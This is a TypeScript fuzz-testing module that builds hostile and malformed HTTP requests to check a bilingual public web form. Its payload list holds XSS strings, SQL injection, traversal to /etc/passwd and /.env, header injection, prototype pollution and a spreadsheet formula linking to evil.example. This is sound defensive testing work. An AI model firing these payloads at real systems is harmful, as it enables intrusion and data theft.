import type { RawEvent } from '../../support/gateway.ts';
import { publicAddress } from '../../support/gateway.ts';

/** Chance of one simulation: from 0 up to, and without, 1. */
export type Draw = () => number;
export const oneOf = <T>(draw: Draw, all: readonly T[]): T => {
  const one = all[Math.floor(draw() * all.length)];
  if (one === undefined) throw new Error('one of nothing');
  return one;
};

/** Put into every text that an attacker could choose, so that it can be looked for where it must not be. */
export const canary = 'zqcanary7319';

/** What a hostile person types. Markup carries the canary, so that a page that lets it through is told at once. */
export const attacks: readonly string[] = [
  `<script>alert("${canary}")</script>`,
  `"><img src=x onerror=${canary}>`,
  `</textarea><svg onload=${canary}>`,
  `' onfocus=${canary} autofocus x='`,
  `javascript:${canary}`,
  `{{7*7}}\${7*7}<!-- ${canary}`,
  `=HYPERLINK("https://evil.example/${canary}")`,
  `a@b.c\r\nBcc: ${canary}@evil.example`,
  `%0d%0aSet-Cookie: ${canary}=1`,
  `=?utf-8?q?${canary}?=`,
  '{"__proto__":{"polluted":true}}',
  '{"$gt":0}',
  `\u202e${canary}\u2066`,
  `\u200b${canary}\ufeff`,
  `e${'\u0301'.repeat(2000)}${canary}`,
  `\ud800${canary}`,
  `nul\u0000${canary}`,
  '👩🏽‍🦽'.repeat(300),
  `${canary} ${'long '.repeat(3000)}`,
  '1e309',
  '-0',
  '5.5',
  'NaN',
  '[]',
  'null',
  '9'.repeat(4000),
  '../../../../etc/passwd',
  '%2e%2e%2f',
  "'; DROP TABLE submissions; --",
  '',
  ' ',
];

const names = [
  ...['act', 'code', 'search', 'association', 'answer', 'words', 'email', 'phone', 'purpose', 'state'],
  ...['reported', 'kind', 'when', 'in-time', 'age', 'tenure'],
  ...['hazard-none', 'hazard-damp-or-mould', '__proto__', 'constructor', 'a[__proto__][x]', 'score'],
  ...['counted', 'createdAt', 'ttl', 'sk', 'pk', 'token', 'voice', 'year', 'receipt', 'reply', canary],
];

const paths = [
  ...[
    '/',
    '/en',
    '/en/',
    '/cy',
    '/en/tell',
    '/cy/tell',
    '/en/tell/form',
    '/en/tell/privacy',
    '/en/tell/track',
    '/en/tell/return',
  ],
  ...['/en/tell/received', '/en/tell/received/x', '/en/tell/received/x/y', '/EN/TELL', '/en//tell', '//tell'],
  ...['/en/tell/%2e%2e/%2e%2e', '/en/tell/;', '/en/tell/form;x=1', '/xx/tell', '/en/admin', '/staff/queue'],
  ...[`/en/tell/received/${canary}%3Csvg%20onload%3D1%3E`, `/en/${canary}"><b>`, '/en/tell/__proto__'],
  ...['/en/tell/constructor', '/.env', '/en/tell/%00', '/en/tell/%ff', `/${'a/'.repeat(400)}`],
];

const methods = ['GET', 'HEAD', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'post', 'CONNECT'];

const headers: readonly NonNullable<RawEvent['headers']>[] = [
  {},
  {},
  {},
  { host: 'evil.example', 'x-forwarded-host': 'evil.example' },
  { 'x-http-method-override': 'DELETE' },
  { origin: 'https://evil.example' },
  { origin: 'null', 'sec-fetch-site': 'cross-site' },
  { 'sec-fetch-site': undefined, origin: undefined },
  { 'content-type': 'application/json' },
  { 'content-type': 'multipart/form-data; boundary=x' },
  { 'content-type': 'application/xml' },
  { 'content-type': 'application/x-www-form-urlencoded; charset=utf-7' },
  { 'content-encoding': 'gzip' },
  { cookie: Array.from({ length: 500 }, (_, index) => `c${index}=${canary}`).join('; ') },
  { 'accept-language': canary.repeat(500), 'user-agent': `${canary}<script>` },
  { 'x-edge-secret': canary },
  { origin: publicAddress, 'sec-fetch-site': 'same-site' },
];

const text = (draw: Draw): string =>
  draw() < 0.7
    ? oneOf(draw, attacks)
    : Array.from({ length: Math.floor(draw() * 40) }, () =>
        String.fromCharCode(Math.floor(draw() * 0xffff)),
      ).join('');

const encoded = (fields: readonly (readonly [string, string])[]): string =>
  fields
    .map(
      ([name, value]) =>
        `${encodeURIComponent(name.toWellFormed())}=${encodeURIComponent(value.toWellFormed())}`,
    )
    .join('&');

/** A form's body as text: fields of the page with an attack in one or several, repeated names, or no form at all. */
const bodyOf = (
  draw: Draw,
  own: readonly (readonly [string, string])[],
): Pick<RawEvent, 'body' | 'plainBody'> => {
  const kind = draw();
  if (kind < 0.04) return { plainBody: '{"a":'.repeat(2000) };
  if (kind < 0.06)
    return { body: new Uint8Array(Array.from({ length: 300 }, () => Math.floor(draw() * 256))) };
  if (kind < 0.08)
    return { body: encoded(Array.from({ length: 2000 }, (_, index) => [`f${index}`, canary])) };
  if (kind < 0.09) return { body: `words=${'x'.repeat(400_000)}` };
  if (kind < 0.1) return { plainBody: 'state=%E0%A4%A&act=%' };
  const more = Array.from(
    { length: Math.floor(draw() * 3) },
    () => [oneOf(draw, names), text(draw)] as const,
  );
  const twice = draw() < 0.05 ? own : [];
  return { body: encoded([...own, ...twice, ...more]) };
};

/** The address of a client; one in ten requests comes from the same one. */
const addressOf = (draw: Draw): string =>
  draw() < 0.02 ? '198.51.100.1' : `10.${[0, 0, 0].map(() => Math.floor(draw() * 256)).join('.')}`;

/** A page that a browser could be looking at: where its form posts to, and the fields that it would send. */
export type Page = { path: string; fields: ReadonlyMap<string, readonly string[]> };

/** The check page has a dozen buttons: most people press these. */
const likely = ['send', 'change-words', 'change-contact'];

/** Every page of the form can be saved as well; most people go on. */
const pressed = (draw: Draw, values: readonly string[]): readonly string[] =>
  values.includes('save') && draw() < 0.9 ? values.filter((each) => each !== 'save') : values;

/** A request of somebody who means harm, or of a browser that is broken; `page` is one that he was shown. */
export const hostileRequest = (draw: Draw, page: Page | undefined): RawEvent => {
  const address = addressOf(draw);
  if (!page || draw() < 0.15) {
    const method = oneOf(draw, methods);
    const more = method === 'POST' || draw() < 0.2 ? bodyOf(draw, []) : {};
    const query = draw() < 0.2 ? `q=${encodeURIComponent(text(draw).toWellFormed())}&q=2` : '';
    return { method, path: oneOf(draw, paths), query, headers: oneOf(draw, headers), address, ...more };
  }
  // Half of them are honest for a page: an attack that never gets past the first one finds little.
  const honest = draw() < 0.5;
  const own = [...page.fields].map(([name, values]) => {
    const harm = honest ? 1 : draw();
    if (name === 'state')
      return [name, harm < 0.05 ? damaged(draw, oneOf(draw, values)) : oneOf(draw, values)] as const;
    if (honest && values.includes('send') && draw() < 0.6) return [name, oneOf(draw, likely)] as const;
    return [name, harm < 0.2 ? text(draw) : oneOf(draw, pressed(draw, values))] as const;
  });
  const kept = own.filter(([name]) => name === 'state' || name === 'act' || draw() < 0.8);
  if (honest) {
    // "None of these" beside a danger is the one slip that an honest page would stop at again and again.
    const said = kept.filter(([name]) => name !== 'hazard-none');
    return { method: 'POST', path: page.path, headers: {}, address, body: encoded(said) };
  }
  return {
    method: 'POST',
    path: page.path,
    headers: draw() < 0.85 ? {} : oneOf(draw, headers),
    address,
    ...bodyOf(draw, kept),
  };
};

const damaged = (draw: Draw, sealed: string): string => {
  const at = Math.floor(draw() * sealed.length);
  return `${sealed.slice(0, at)}${oneOf(draw, ['A', '.', '', '%', '=', canary])}${sealed.slice(at + 1)}`;
};
